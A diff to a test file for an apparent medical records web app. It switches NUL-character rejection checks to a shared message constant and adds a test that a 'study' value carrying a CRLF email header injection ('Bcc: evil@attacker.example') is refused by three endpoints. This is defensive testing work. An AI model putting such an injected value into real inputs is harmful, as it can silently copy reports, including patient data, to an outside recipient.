@@ -30,6 +30,7 @@ from core.auth.models import User
 from core.db import database
 from core.exports import FORMULA_PREFIXES
 from core.patients.models import Patient
+from core.request_guard import NUL_MESSAGE
 from core.testing import ROLE_PASSWORD, run_jobs
 from plugins.ehr import plugin as ehr
 from plugins.interactions import plugin as interactions
@@ -274,10 +275,10 @@ def test_a_nul_character_anywhere_is_a_422_naming_it_and_is_audited(app, client_
     for url in NUL_QUERIES:
         error = assert_error_shape(admin.get(url), 422)
         name = url.rsplit("?", 1)[1].split("=")[0]
-        assert error["errors"] == {"query": {name: ["Must not contain NUL characters."]}}, url
+        assert error["errors"] == {"query": {name: [NUL_MESSAGE]}}, url
     for url in NUL_PATHS:
         error = assert_error_shape(admin.get(url), 422)
-        assert error["errors"] == {"path": {"mrn": ["Must not contain NUL characters."]}}, url
+        assert error["errors"] == {"path": {"mrn": [NUL_MESSAGE]}}, url
     for url in NUL_PAGES:
         page = admin.get(url)
         assert page.status_code == 422 and page.mimetype == "text/html", url
@@ -290,7 +291,7 @@ def test_a_nul_character_anywhere_is_a_422_naming_it_and_is_audited(app, client_
     ]
     for method, url, body, field in bodies:
         error = assert_error_shape(getattr(admin, method)(url, json=body), 422)
-        assert error["errors"] == {"json": {field: ["Must not contain NUL characters."]}}, url
+        assert error["errors"] == {"json": {field: [NUL_MESSAGE]}}, url
     assert snapshot_patients() == [{"mrn": "MRN-1", "first_name": "Anna", "last_name": "Kept"}]
     with database.connection_context():
         refused = AuditEvent.get(AuditEvent.path == "/api/patients/a\ufffdb")
@@ -489,6 +490,12 @@ def test_the_report_and_its_email_show_hostile_data_as_text_and_refuse_the_bomb(
     [attachment] = list(message.iter_attachments())
     report = pdf_text(attachment.get_content())
     assert f"report {week}, {HOSTILE_STUDY}." in report
+    # A line break, which could add a header to the email, does not get in at all.
+    injection = "x\r\nBcc: evil@attacker.example"
+    subscription = {"weekday": "monday", "time": "09:00", "timezone": "UTC", "study": injection}
+    assert_error_shape(admin.post("/api/report-subscriptions", json=subscription), 422)
+    assert_error_shape(upload(admin, b"x", "x.pdf", study=injection), 422)
+    assert_error_shape(admin.patch("/api/documents/1", json={"study": injection}), 422)
     for name, why in HOSTILE_IMAGES.items():
         assert f"{name} {why}" in report or f"{name} not decoded: {why}" in report, name
 
